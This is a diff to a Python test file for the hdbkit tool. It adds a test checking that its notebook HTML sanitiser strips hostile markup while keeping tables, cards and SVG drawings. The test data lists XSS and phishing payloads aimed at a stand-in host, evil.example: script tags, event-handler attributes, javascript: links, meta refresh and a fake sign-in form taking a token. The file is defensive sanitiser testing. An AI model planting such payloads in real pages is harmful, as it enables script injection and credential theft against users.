@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -12,7 +13,7 @@ import pytest
 from hdbkit import api
 from hdbkit.api.batch import write_batch_index
 from hdbkit.errors import InputError
-from hdbkit.report.notebook_page import markdown, notebook_page
+from hdbkit.report.notebook_page import _cleaned, markdown, notebook_page
 from hdbkit.results.batch_folder import BatchFolder, JobRecord, JobStatus
 from tests.accessibility import serious
 from tests.conftest import PATIENCE_MS, HdbkitCommand
@@ -113,6 +114,32 @@ def test_a_notebook_becomes_text_charts_and_links(results: Path) -> None:
     assert "&lt;b&gt;plain" in read.content.body
     (chart,) = json.loads(read.content.charts)["charts"].values()
     assert "title" not in chart["figure"]["layout"]
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<meta http-equiv="refresh" content="0; url=https://evil.example">', "<script>evil()</script>",
+        '<form action="https://evil.example"><input name="token"><button>Sign in</button></form>',
+        '<base href="https://evil.example">', '<iframe src="https://evil.example"></iframe>',
+        '<svg><foreignObject><script>evil()</script></foreignObject></svg>', '<svg onload="evil()"><g></g></svg>',
+        '<a href="javascript:evil()">evil</a>', '<img src="x" onerror="evil()">', '<object data="evil"></object>',
+        '<link rel="stylesheet" href="https://evil.example">', "<style>@import 'https://evil.example';</style>",
+        '<svg><a xlink:href="javascript:evil()"><text>x</text></a></svg>', '<svg><animate onbegin="evil()"/></svg>',
+    ],
+)  # fmt: skip
+def test_what_a_notebook_kept_executes_sends_and_leads_nowhere(html: str) -> None:
+    kept = f'<table class="a"><tr><td style="color: red">kept</td></tr></table>{html}'
+    made = _cleaned(kept)
+    assert '<td style="color: red">kept</td>' in made
+    assert not re.search(r"evil\.example|evil\(|<(meta|form|input|base|iframe|object|link|style|script)", made)
+
+
+def test_the_cards_and_drawings_of_a_notebook_are_kept(results: Path) -> None:
+    card = api.result("20261101-120000-nulldb-c-w1-u2-aaaaaa")._repr_html_()
+    made = _cleaned(f'{card}<svg viewBox="0 0 2 2" width="9"><path d="M0 0 L1 1" style="fill: red"></path></svg>')
+    for part in ('class="hdbkit-card', 'class="hd-answer"', 'viewBox="0 0 2 2"', '<path d="M0 0 L1 1"', "<details"):
+        assert part in made
 
 
 def test_the_index_of_a_batch_has_verdicts_thumbnails_links_and_what_failed(results: Path, tmp_path: Path) -> None:
